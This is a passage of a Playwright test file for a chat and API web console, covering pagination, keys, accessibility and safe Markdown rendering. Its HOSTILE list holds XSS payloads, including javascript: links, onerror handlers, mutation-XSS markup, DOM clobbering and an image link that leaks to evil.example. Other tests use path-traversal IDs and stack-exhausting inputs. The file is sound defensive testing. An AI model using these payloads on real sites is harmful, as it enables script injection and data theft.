        data = rows[start : start + int(query["limit"])]
        more = start + len(data) < len(rows)
        route.fulfill(json={"object": "list", "data": data, "last_id": data[-1]["id"], "has_more": more})

    return answer


LISTED = {"status": "active", "file_counts": {"total": 1}, "usage_bytes": 1, "memory_limit": "1g", "bytes": 1}
"""What rows of any list have."""


@pytest.mark.parametrize(
    ("where", "path", "size"),
    [
        ("chat", "conversations", 100),
        ("conversations", "conversations", 500),
        ("stores", "vector_stores", 100),
        ("stores/vs_1", "vector_stores/vs_1/files", 100),
        ("containers", "containers", 100),
        ("containers/cntr_1", "containers/cntr_1/files", 100),
    ],
)
def test_a_list_goes_on_behind_its_first_page(visit: Visit, where: str, path: str, size: int) -> None:
    def row(number: int) -> dict[str, Any]:
        name = f"row {number}"
        times = dict.fromkeys(("created_at", "updated_at", "last_active_at"), number)
        return {**LISTED, **times, "id": f"id_{number}", "name": name, "title": name, "path": name}

    page = visit.page("#/usage")
    page.route(
        f"**/v1/{path.removesuffix('/files')}", lambda route: route.fulfill(json={**row(0), "name": "whole"})
    )
    page.route(f"**/v1/{path}?*", paged([row(number) for number in range(size, -1, -1)]))
    files_of_a_store = path.startswith("vector_stores/")  # which have no name of their own
    name = "id_{}" if files_of_a_store else "row {}"
    page.evaluate("(where) => { location.hash = `#/${where}`; }", where)
    page.wait_for_selector(f"main >> text='{name.format(1)}'")
    assert page.locator(f"main >> text='{name.format(0)}'").count() == 0
    page.click("main >> text=Show more")
    page.wait_for_selector(f"main >> text='{name.format(0)}'")
    assert page.locator("main >> text=Show more").count() == 0


def test_older_conversations_are_found_by_the_palette(visit: Visit) -> None:
    page = visit.page("#/usage")
    rows = [{**LISTED, "id": f"conv_{number}", "title": f"talk {number}."} for number in range(150)]
    page.route("**/v1/conversations?*", paged(rows))
    page.keyboard.press("Control+k")
    page.wait_for_selector("dialog >> text='talk 0.'")
    page.keyboard.type("talk 149")
    page.wait_for_selector("dialog >> text='Search older conversations'")
    page.keyboard.press("Enter")
    page.wait_for_selector("dialog >> text='talk 149.'")
    assert page.locator("dialog [role=option]").count() == 1, "there are no older ones"
    page.keyboard.press("Enter")
    until(page, "location.hash === '#/chat/conv_149'")


def test_keys_are_asked_for_owner_by_owner(visit: Visit) -> None:
    asked: list[str] = []

    def answer(route: Route) -> None:
        path = urlsplit(route.request.url).path
        asked.append(path)
        if "/proj_4/" in path:
            route.fulfill(status=429, json=REFUSAL)
        elif path.endswith("/limits"):
            route.fulfill(json={"in_force": {}})
        else:
            name = f"key of {path.split('/')[-2]}"
            made = {"id": "key_1", "name": name, "scopes": ["all"], "limits": {}, "redacted_value": "…"}
            paged([made])(route)

    page = visit.page("#/usage")
    owners = [{"id": f"proj_{number}", "name": f"owner {number}"} for number in range(101)]
    page.route("**/v1/organization/projects?*", paged(owners))
    page.route("**/v1/organization/projects/*/*", answer)
    page.evaluate("location.hash = '#/keys'")
    page.click("button >> text='owner 3'")
    page.wait_for_selector("td >> text='key of proj_3'")
    assert len(asked) == 2
    page.click("button >> text='owner 4'")
    page.wait_for_selector("section[aria-label='owner 4'] >> text=Too many requests.")
    assert page.locator("td >> text='key of proj_3'").count() == 1
    page.click("text=Show more")
    page.wait_for_selector("text='owner 100'")


@pytest.mark.parametrize("where", ["runs/100%", "runs/..%2Fmodels", "stores/..", "chat/a%3Fb"])
def test_an_address_that_is_none_of_a_page_asks_for_nothing(visit: Visit, where: str) -> None:
    asked: list[str] = []
    page = visit.page("#/usage")
    page.on("request", lambda request: asked.append(request.url))
    page.goto("about:blank")
    page.goto(f"{visit.url}/#/{where}")
    page.wait_for_selector("h1 >> text=There is no such page.")
    page.wait_for_selector(".version")
    assert {urlsplit(url).path for url in asked if "/v1/" in url} <= {"/v1/responses"}


def test_ids_in_an_answer_lead_to_no_other_path(visit: Visit, server: Server) -> None:
    cited: dict[str, Any] = {
        "type": "container_file_citation",
        "container_id": "../../v1/models?",
        "file_id": "../x#",
    }
    cited |= {"filename": "plot.png", "start_index": 0, "end_index": 1}
    content = [{"type": "output_text", "text": "a plot", "annotations": [cited]}]
    item = {"type": "message", "role": "assistant", "content": content}
    conversation = server.post("/v1/conversations", {"items": [item]})["id"]
    page = visit.page(f"#/chat/{conversation}", ".sources button")
    with page.expect_request("**/content") as asked:
        page.click(".sources >> text=plot.png")
    path = urlsplit(asked.value.url).path
    assert path == "/v1/containers/..%2F..%2Fv1%2Fmodels%3F/files/..%2Fx%23/content"


# ------------------------------------------------------------------------------------------------------------
# Text is text

HOSTILE = (
    "<script>window.hit = 1</script>",
    "<img src=x onerror='window.hit = 1'>",
    "<svg onload='window.hit = 1'><a xlink:href='javascript:window.hit=1'><text>x</text></a></svg>",
    "[a](javascript:window.hit=1) [b](JaVaScRiPt:window.hit=1)",
    "[c](data:text/html,<script>window.hit=1</script>)",
    "[d](\x01javascript:window.hit=1) <a href='java&#10;script:window.hit=1'>e</a> [f](vbscript:hit)",
    "<iframe srcdoc='<script>parent.hit = 1</script>'></iframe><object data=x></object><embed src=x>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=window.hit=1&gt;'>",
    "<form action='https://evil.example/'><button formaction='javascript:window.hit=1'>x</button></form>",
    "<style>@import 'https://evil.example/x.css'; * { background: url(https://evil.example/y) }</style>",
    "<div style='background: url(https://evil.example/z)' class='banner' id='app'>styled</div>",
    "![exfiltrated](https://evil.example/secret.png) ![](//evil.example/p) <img src='/v1/models'>",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<video src=https://evil.example/v autoplay></video>",
    "<details open ontoggle='window.hit = 1'><summary>x</summary></details>",
    "<input autofocus onfocus='window.hit=1'>",
    '```html\n<script>window.hit = 1</script>\n```\n```"onmouseover=window.hit=1\ncode\n```',
    "<a href='https://evil.example/' target='_self' rel='opener'>out</a> https://auto.example/link",
    "<template><script>window.hit=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=hit=1>'>",
    "<a name=body><a id=cookie name=cookie><form name=location><input name=href></form>",
)


def test_what_a_model_writes_can_do_nothing(visit: Visit, server: Server) -> None:
    title = "<img src=x onerror='window.hit = 1'>"
    items = [
        {"type": "message", "role": "assistant", "content": [{"type": "output_text", "text": text}]}
        for text in HOSTILE
    ]
    conversation = server.post("/v1/conversations", {"items": items[:20], "title": title})
    server.post(f"/v1/conversations/{conversation['id']}/items", {"items": items[20:]})
    call = {
        "type": "function_call",
        "call_id": "call_1",
        "name": "get",
        "arguments": '{"a": "<script>window.hit=1</script>"}',
    }
    output = {"type": "function_call_output", "call_id": "call_1", "output": HOSTILE[1]}
    server.post(f"/v1/conversations/{conversation['id']}/items", {"items": [call, output]})
    page = visit.page(f"#/chat/{conversation['id']}", ".turn.assistant")
    page.click("details.call summary")
    kept = page.evaluate(
        """() => {
          const thread = document.querySelector('.thread');
          const texts = [...thread.querySelectorAll('.prose')];
          const inside = (what) => texts.flatMap((text) => [...text.querySelectorAll(what)]);
          const all = inside('*');
          return {
            tags: [...new Set(all.map((each) => each.tagName.toLowerCase()))].sort(),
            handlers: all
              .flatMap((each) => [...each.attributes])
              .filter((each) => /^on|style|^id$|^name$/.test(each.name)).length,
            links: inside('a').map((each) => [each.getAttribute('href'), each.rel, each.target]),
            images: inside('img').map((each) => each.src),
            foreign: inside('[class*=banner]').length,
            title: document.querySelector('#title').textContent,
            bases: document.querySelectorAll('base, meta[http-equiv], .thread link').length,
          };
        }"""
    )
    bad = {
        "script",
        "style",
        "iframe",
        "object",
        "embed",
        "form",
        "svg",
        "math",
        "link",
        "meta",
        "base",
        "video",
    }
    assert bad.isdisjoint(kept["tags"]) and "img" not in kept["tags"]
    assert kept["handlers"] == 0 and kept["images"] == [] and kept["foreign"] == 0 and kept["bases"] == 0
    assert kept["title"] == title
    for address, rel, target in kept["links"]:
        assert address is not None and address.startswith("https://"), address
        assert (rel, target) == ("noopener noreferrer nofollow", "_blank")
    assert [address for address, *_ in kept["links"]] == ["https://auto.example/link"]
    assert page.locator(".prose p >> text='a b'").count() == 1  # links that lead nowhere are text
    runs = visit.page(f"#/conversations/{conversation['id']}", ".steps li")
    for opened in (page, runs):
        opened.mouse.move(640, 400)
        assert opened.evaluate("window.hit") is None


def shows(page: Page, server: Server, *texts: str, title: str = "Shown") -> None:
    """Show a conversation that consists of these texts of a model."""
    items = [
        {"type": "message", "role": "assistant", "content": [{"type": "output_text", "text": text}]}
        for text in texts
    ]
    conversation = server.post("/v1/conversations", {"items": items, "title": title})["id"]
    page.evaluate("(id) => { location.hash = `#/chat/${id}`; }", conversation)
    until(page, "(count) => document.querySelectorAll('.prose').length === count", arg=len(texts))


VERBATIM = (
    'Use List<String> and Map<K,V>; if a<b and c>d; the <script> tag, <div class="x">; 3 < 5',
    "The <code> tag, then List<int and <a href='x'>https",
    "<script> is a tag, and <sub> is one.",
    "<div>\n    <p>not *slanted*</p>\n</div>",
    "<script>\nlet a;\n\nlet b;\n</script>",
    "<!-- a remark -->",
    r"\(x_1 * y_1 * z\) and \[a < b\] and $$c_1 + c_2$$",
    "\\[\nx_1\n= y_1\n\n- z\n\\]",
)
"""Texts of which every character is shown, with its line breaks."""


def test_html_and_mathematics_are_shown_as_they_were_written(visit: Visit, server: Server) -> None:
    page = visit.page()
    more = ("<style>\n\nis **open**", "H<sub>2</sub>O", "| a |\n|---|\n| b<br>c |")
    shows(page, server, *VERBATIM, *more)
    shown = page.evaluate(
        """[...document.querySelectorAll('.prose')].map((each) =>
             (each.querySelector('pre') ?? each).innerText.trim())"""
    )
    assert tuple(shown[: len(VERBATIM)]) == VERBATIM
    assert shown[len(VERBATIM) :] == ["<style>\n\nis open", "H2O", "a\nb\nc"]
    assert page.locator(".prose strong >> text=open").count() == 1
    assert page.locator(".prose sub >> text=2").count() == 1


def test_a_text_from_right_to_left_begins_at_the_right(visit: Visit, server: Server) -> None:
    page = visit.page()
    right = "\u05e9\u05dc\u05d5\u05dd"
    text = (
        f"Left\n\n{right}\n\n* {right}\n* Beside its mark\n\n| {right} | {right} |\n|-|-|\n| {right} | Left |"
    )
    shows(page, server, text, title=right)
    ends = page.evaluate(
        """() => [...document.querySelectorAll('.prose :is(p, li, th, td)')].map((block) => {
          const words = document.createRange();
          words.selectNodeContents(block);
          const [inner, outer] = [words.getBoundingClientRect(), block.getBoundingClientRect()];
          return inner.left - outer.left < outer.right - inner.right ? 'left' : 'right';
        })"""
    )
    assert ends == ["left", "right", "right", "right", "right", "right", "right", "left"]
    title = page.locator(f"#title:has-text('{right}')")
    style = title.evaluate("(each) => [getComputedStyle(each).direction, getComputedStyle(each).unicodeBidi]")
    assert style == ["rtl", "isolate"]
    first, second = (page.locator(".prose th").nth(at).bounding_box() for at in (0, 1))
    assert first is not None and second is not None and first["x"] > second["x"]


MARKDOWN = (
    "# Head\n\n* one\n* **two**\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
    "```python\nprint('hi')\n```\n\n- [x] done, [here](https://docs.example/)"
)


def test_markdown_is_shown_and_code_is_copied(visit: Visit, server: Server, browser: Browser) -> None:
    item = {"type": "message", "role": "assistant", "content": [{"type": "output_text", "text": MARKDOWN}]}
    conversation = server.post("/v1/conversations", {"items": [item]})
    visit._context.grant_permissions(["clipboard-read", "clipboard-write"])
    page = visit.page(f"#/chat/{conversation['id']}", ".code-frame")
    assert page.locator(".prose h1, .prose strong, .prose td, .prose input[checked]").count() == 5
    assert page.inner_text(".code-bar span") == "python"
    page.click(".code-bar button")
    page.wait_for_selector("text=Copied")
    assert page.evaluate("navigator.clipboard.readText()") == "print('hi')\n"


# ------------------------------------------------------------------------------------------------------------
# For everybody

PAGES = (
    "chat",
    "waiting",
    "conversations",
    "runs",
    "files",
    "stores",
    "containers",
    "usage",
    "keys",
    "engine",
)


HEAVY = (
    ">" * 3000,
    "1. " * 3000,
    "a" + " " * 60_000 + "b",
    "a_" * 10_000,
    "*_a" * 10_000,
    "|a|b|\n|-|-|" + "\n|a|b|" * 3000,
    "- a" + "\n  - b" * 3000,
)
"""Texts by which a reader of Markdown runs out of its stack, or needs long at every frame."""

LONG = (
    *("".join(f"{mark} item {number}\n" for number in range(2000)) for mark in "-*"),
    "".join(f"{number}. item\n" for number in range(1, 2001)),
    "```\n" + "a line of code\n" * 3000 + "```",
)
"""Texts that are long, and read in pieces or fast."""


def test_long_lists_are_read_in_pieces_and_long_code_in_one(visit: Visit, server: Server) -> None:
    items = [
        {"type": "message", "role": "assistant", "content": [{"type": "output_text", "text": text}]}
        for text in LONG
    ]
    conversation = server.post("/v1/conversations", {"items": items})
    page = visit.page(f"#/chat/{conversation['id']}", ".code-frame")
    assert page.locator(".stretch.plain").count() == 0
    assert page.locator(".prose ul > li").count() == 4000
    assert page.locator(".prose ol > li").count() == 2000
    # The numbers go on where the piece before has ended.
    assert page.evaluate(
        """[...document.querySelectorAll('.prose ol')].every((list, at, all) =>
          list.start === (at ? all[at - 1].start + all[at - 1].children.length : 1))"""
    )
    lists = "[...document.querySelectorAll('.stretch')].filter((each) => each.querySelector('li'))"
    assert page.evaluate(f"Math.max(...{lists}.map((each) => each.textContent.length))") < 10_000
    assert page.locator(".code-frame").count() == 1


def test_what_is_too_much_to_be_read_as_markdown_is_shown_as_it_is(visit: Visit, server: Server) -> None:
    items = [
        {"type": "message", "role": "assistant", "content": [{"type": "output_text", "text": text}]}
        for text in ("first", *HEAVY, "a **bold** end")
    ]
    conversation = server.post("/v1/conversations", {"items": items})
    page = visit.page(f"#/chat/{conversation['id']}", ".turn.assistant strong >> text=bold")
    shown = page.evaluate("[...document.querySelectorAll('.stretch.plain')].map((each) => each.textContent)")
    assert tuple(shown) == HEAVY
    page.click("nav >> text=Usage")
    page.wait_for_selector("h1 >> text=Usage")


def test_a_page_that_fails_takes_no_other_page_with_it(visit: Visit) -> None:
    page = visit.page("#/files")

    def break_files(route: Route) -> None:
        route.fulfill(json={"object": "list", "data": [None], "has_more": False})

    page.route("**/v1/files?*", break_files)
    page.reload()
    page.wait_for_selector("h1 >> text=This page has failed.")
    assert "null" in visit.problems.pop() and not visit.problems  # it is told to the browser's console, too
    page.unroute("**/v1/files?*")
    page.click("main >> text=Try again")
    page.wait_for_selector("h1 >> text=Files")
    page.route("**/v1/files?*", break_files)
    page.reload()
    page.wait_for_selector("h1 >> text=This page has failed.")
    visit.problems.clear()
    page.click("nav >> text=Usage")
    page.wait_for_selector("h1 >> text=Usage")


def test_what_is_typed_as_a_name_stays_until_the_server_has_it(visit: Visit, server: Server) -> None:
    page = visit.page()
    ask(page, "tick 30\ncount 2000")
    begun(page)
    page.click("[aria-label=More]")
    page.fill("[name=title]", "A better name")
    shown = "document.querySelector('.turn.assistant .prose').textContent.length"
    before = page.evaluate(shown)
    until(page, f"{shown} > {before + 50}")
    assert page.input_value("[name=title]") == "A better name"

    def refuse(route: Route) -> None:
        if route.request.method == "POST":
            route.fulfill(status=429, json=REFUSAL)
        else:
            route.continue_()

    page.route("**/v1/organization/projects?*", paged([{"id": "proj_1", "name": "ann"}]))
    for path in ("conversations/conv_*", "vector_stores", "organization/projects"):
        page.route(f"**/v1/{path}", refuse)
    page.click("text=Rename")
    page.wait_for_selector(".toast >> text=Too many requests.")
    assert page.input_value("[name=title]") == "A better name"
    page.unroute("**/v1/conversations/conv_*")
    page.click("text=Rename")
    page.wait_for_selector("#title >> text=A better name")
    page.wait_for_selector("[aria-label=More]:focus")
    page.click("[aria-label=Stop]")
    for where, button in (("stores", "New store"), ("keys", "New owner")):
        page.evaluate("(where) => { location.hash = `#/${where}`; }", where)
        page.click(f"text={button}")
        page.fill("dialog [name=name]", "A long name")
        page.click("text=Make it")
        page.wait_for_selector("dialog >> text=Too many requests.")
        assert page.input_value("dialog [name=name]") == "A long name"
        page.keyboard.press("Escape")
        page.wait_for_selector("dialog", state="detached")


NARROW = {"runOnly": {"type": "rule", "values": ["scrollable-region-focusable", "landmark-unique"]}}
"""What is looked at again on a small screen, where tables scroll."""


@pytest.mark.sampled(2)
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_page_is_accessible_and_fits_a_small_screen(visit: Visit, server: Server, scheme: str) -> None:
    item = {"type": "message", "role": "assistant", "content": [{"type": "output_text", "text": MARKDOWN}]}
    conversation = server.post("/v1/conversations", {"items": [item]})["id"]
    asked = {"input": 'call get_weather {"city": "Oslo"}', "tools": [WEATHER], "background": True}
    asked |= {"conversation": conversation, "await_tool_outputs": True}
    run = server.post("/v1/responses", asked)["id"]
    del asked["conversation"]
    same = server.post("/v1/responses", asked)["id"]  # another call of one function
    server.post("/v1/responses", {"input": "say used"})
    single = (f"chat/{conversation}", f"conversations/{conversation}", f"runs/{run}")

    levels = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa"]
    rules: dict[str, Any] = {"resultTypes": ["violations"], "runOnly": levels}
    if scheme == "dark":  # in which nothing but the colours differs
        rules["runOnly"] = {"type": "rule", "values": ["color-contrast"]}
    axe = (files("axe_playwright_python") / "axe.min.js").read_text("utf-8")
    page = visit.page()
    page.emulate_media(color_scheme=scheme)  # type: ignore[arg-type]
    page.evaluate(axe)
    for name in (*PAGES, *single):
        page.goto(f"{page.url.partition('#')[0]}#/{name}")
        until(page, "(name) => location.hash.startsWith('#/' + name)", arg=name)
        page.wait_for_selector("main h1")
        if name in single or name == "waiting":
            page.wait_for_selector("form.answer, .steps li, .event")
        until(page, "!document.querySelector('.loading')")
        found = page.evaluate("(rules) => axe.run(document, rules)", rules)
        problems = [
            (each["id"], [node["html"][:150] for node in each["nodes"]]) for each in found["violations"]
        ]
        assert problems == [], (name, scheme)
        page.set_viewport_size({"width": 360, "height": 700})
        assert page.evaluate("document.documentElement.scrollWidth") <= 360, name
        assert page.evaluate("document.querySelector('main').scrollWidth") <= 360, name
        if scheme == "light":
            found = page.evaluate("(rules) => axe.run(document, rules)", NARROW)
            assert [each["nodes"] for each in found["violations"]] == [], name
        page.set_viewport_size({"width": 1280, "height": 800})
    for each in (run, same):
        server.post(f"/v1/responses/{each}/cancel", {})


def test_a_long_title_is_cut_at_the_edge_of_a_small_screen(visit: Visit, server: Server) -> None:
    server.post("/v1/conversations", {"title": "A title that is long " * 8})
    page = visit.page()
    page.set_viewport_size({"width": 390, "height": 800})
    page.click("button[aria-label=Conversations]")
    page.wait_for_selector(".side-list >> text=A title that is long")
    side = page.locator(".side").bounding_box()
    assert side is not None and side["width"] <= 390


def test_the_keyboard_is_enough(visit: Visit) -> None:
    page = visit.page()
    page.wait_for_selector("#composer:focus")
    page.keyboard.press("Escape")
    page.keyboard.press("g")
    page.keyboard.press("r")
    page.wait_for_selector("h1 >> text=Runs")
    # A notice covers nothing of the page, and is not there any more on the next one.
    page.evaluate("import('./console/state.js').then(({ notify }) => notify('Not done.', 'error'))")
    page.wait_for_selector(".toast >> text=Not done.")
    toast, main = (page.locator(each).bounding_box() for each in (".toast", "main"))
    assert toast is not None and main is not None and toast["x"] + toast["width"] <= main["x"]
    page.keyboard.press("Control+k")
    page.keyboard.type("engine")
    page.keyboard.press("Enter")
    page.wait_for_selector("h1 >> text=Engine")
    page.wait_for_selector(".toast", state="detached", timeout=4000)
    page.keyboard.press("?")
    page.wait_for_selector("dialog[open] >> text=Shortcuts")
    page.keyboard.press("Escape")
    assert page.locator("dialog[open]").count() == 0
    # Who has gone to the chat by letters goes on by letters, and does not write them into the message.
    for letter in "gcgugcn":
        page.keyboard.press(letter)
        if letter == "u":
            page.wait_for_selector("h1 >> text=Usage")
        elif letter == "c":
            page.wait_for_selector("#composer")
    page.wait_for_selector("#composer:focus")
    assert page.input_value("#composer") == ""
    page.goto(page.url.replace("/chat", "/stores"))
    page.click("text=New store")
    page.wait_for_selector("dialog [name=name]:focus")
    page.keyboard.press("Escape")
    page.set_viewport_size({"width": 360, "height": 700})
    page.click("[aria-label=Menu]")
    page.wait_for_selector(".menu-open")
    page.keyboard.press("Escape")
    page.wait_for_selector(".menu-open", state="detached")


def test_what_is_wanting_is_said_once_and_plainly(visit: Visit) -> None:
    nowhere = visit.page("#/vector-stores", "h1 >> text=There is no such page.")
    error = {"message": "You didn't provide an API key.", "code": "invalid_api_key"}
    nowhere.context.route("**/v1/**", lambda route: route.fulfill(status=401, json={"error": error}))
    page = visit.page("#/chat", "dialog >> text=This server needs a key.")
    page.wait_for_selector("dialog input:focus")
    assert page.locator("[role=alert]").count() == 0
    page.keyboard.press("Escape")
    page.click(".banner >> text=Use a key")
    page.wait_for_selector("dialog input:focus")
